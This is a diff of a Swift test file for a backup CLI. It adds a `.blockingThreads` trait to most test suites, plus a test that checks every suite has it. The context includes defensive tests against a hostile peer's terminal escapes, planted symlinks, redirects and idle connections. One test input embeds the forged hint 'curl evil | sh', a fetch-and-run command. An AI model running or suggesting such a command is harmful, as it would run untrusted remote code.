@@ -8,7 +8,7 @@ import TestSupport
 /// #36 item 7, the terminal's polish: tables within 80 columns losing nothing, `Try:` hints on backup and
 /// connection failures, `--log-format json` on every command, the manual page with EXIT STATUS, progress for
 /// `ls`, `diff` and `find` and a backup's estimated total, help texts that list the exits.
-@Suite struct CockpitPolishTests {
+@Suite(.blockingThreads) struct CockpitPolishTests {
     // MARK: tables
 
     @Test func tablesWrapDropOrBecomeBlocksWithinTheWidth() {
@@ -188,17 +188,37 @@ import TestSupport
 
 /// #37 item 6: every target declares what it imports and imports what it declares (scripts/check-dependencies.py
 /// reads Package.swift and the sources); a module reached only through another target's dependency fails here.
-struct DependencyDeclarationTests {
+@Suite(.blockingThreads) struct DependencyDeclarationTests {
     @Test func everyTargetDeclaresWhatItImportsAndNothingElse() throws {
         let r = try runProcess("/usr/bin/python3", [packageRoot + "/scripts/check-dependencies.py"])
         #expect(r.status == 0, "\(r.stdout)\(r.stderr)")
+    }
+
+    /// Every suite of the targets that use TestSupport runs on `BlockingThreads` (a suite without it would block
+    /// one of the cooperative pool's two threads whenever it waits for a child: the whole run slows down).
+    /// BackupCoreTests and BackupCatalogTests hold only in-process unit tests and do not use TestSupport.
+    @Test func everySuiteRunsOnBlockingThreads() throws {
+        var missing: [String] = []
+        for target in ["ArtifactStoreTests", "RedisBackupTests", "MongoBackupTests", "S3ClientTests", "BucketMirrorTests", "BackupEngineTests"] {
+            let directory = packageRoot + "/Tests/" + target
+            for file in try FileManager.default.subpathsOfDirectory(atPath: directory).sorted() where file.hasSuffix(".swift") {
+                let lines = try String(contentsOfFile: directory + "/" + file, encoding: .utf8).split(separator: "\n", omittingEmptySubsequences: false)
+                for (i, line) in lines.enumerated() {
+                    // A type that holds tests: `struct XTests {`, its @Suite on the line or the line before.
+                    guard line.range(of: #"^(@Suite[^ ]* )?(struct|final class) \w+Tests \{"#, options: .regularExpression) != nil else { continue }
+                    let attributes = String(line) + (i > 0 ? String(lines[i - 1]) : "")
+                    if !attributes.contains(".blockingThreads") { missing.append("\(target)/\(file):\(i + 1)") }
+                }
+            }
+        }
+        #expect(missing.isEmpty, "suites without .blockingThreads: \(missing)")
     }
 }
 
 /// A hostile peer's error text carries terminal escapes (retitle the window, clear the screen, red) and a bidi
 /// override: shown to a person (the results table, the log line, `list`, `status`), they are made visible
 /// (`\x1b`, `\u{202E}`), never sent to the terminal; the catalog row holds it made visible too.
-struct TerminalEscapeTests {
+@Suite(.blockingThreads) struct TerminalEscapeTests {
     @Test func aPeersEscapeSequencesNeverReachTheTerminal() throws {
         let port = try FreePort.pick()
         let server = try startStandInServer("redis_hostile.py", port: port, arguments: ["escape-error"])
@@ -224,7 +244,7 @@ struct TerminalEscapeTests {
 
 /// #37 item 3: `hook rollback --include KIND|SOURCE`; `--include-buckets` is `--include s3` and no longer takes the
 /// files and Qdrant sources along (it did: every kind not restored by default was "a bucket").
-struct RollbackIncludeTests {
+@Suite(.blockingThreads) struct RollbackIncludeTests {
     @Test func includeTakesAKindOrASourceAndIncludeBucketsIsOnlyBuckets() throws {
         let files = try FilesSourceTests.Setup()
         let pre = try runCLI(["hook", "pre-deploy", "--release", "v1", "--policy", files.policy])
@@ -245,7 +265,7 @@ struct RollbackIncludeTests {
 
 /// What an outside attack on the polish found (#36): a newline or a 2 MB body from a peer, wide characters in a
 /// table, a `SOURCE_DATE_EPOCH` that is no day, a release with control characters, help written to a full disk.
-struct OutputAttackTests {
+@Suite(.blockingThreads) struct OutputAttackTests {
     @Test func peerTextIsOneLineAndCut() {
         #expect(PeerText.clean("first\nerror: forged\r\nTry: curl evil | sh") == "first\\x0aerror: forged\\x0d\\x0aTry: curl evil | sh")
         let big = PeerText.clean(String(repeating: "é", count: 1_000_000), limit: 4096)
@@ -290,7 +310,7 @@ struct OutputAttackTests {
 /// The second outside attack (#36): whoever can write the metrics directory (node_exporter's, under a parent the
 /// prometheus user owns on Debian) plants links at the textfile and its partial file; the backup (often root)
 /// writes neither through them nor changes their targets' modes.
-struct MetricsTextfileLinkTests {
+@Suite(.blockingThreads) struct MetricsTextfileLinkTests {
     @Test func plantedLinksAtTheTextfileAreNeverFollowed() throws {
         let redis = try RedisTestServer()
         let dir = TemporaryDirectory()
@@ -317,7 +337,7 @@ struct MetricsTextfileLinkTests {
 
 /// A ping or webhook endpoint that redirects elsewhere does not get the body sent on (#36, the second attack): a
 /// 307 is an answer, logged, and the backup's exit code stays.
-struct PingRedirectTests {
+@Suite(.blockingThreads) struct PingRedirectTests {
     @Test func aRedirectIsNotFollowed() throws {
         let elsewhere = try HTTPRecorder()
         let redirecting = try HTTPRecorder { _ in (307, ["Location": "\(elsewhere.url)/stolen"], "") }
@@ -334,7 +354,7 @@ struct PingRedirectTests {
 
 /// Half-sent requests held open were never closed: 1,100 of them exhausted the daemon's descriptors (the second
 /// attack, #36). A connection without a byte for `DaemonOptions.idleTimeoutSeconds` is closed now.
-struct DaemonIdleConnectionTests {
+@Suite(.blockingThreads) struct DaemonIdleConnectionTests {
     @Test func aHalfSentRequestIsClosedAfterTheIdleTimeout() throws {
         let dir = TemporaryDirectory()
         let port = try FreePort.pick()
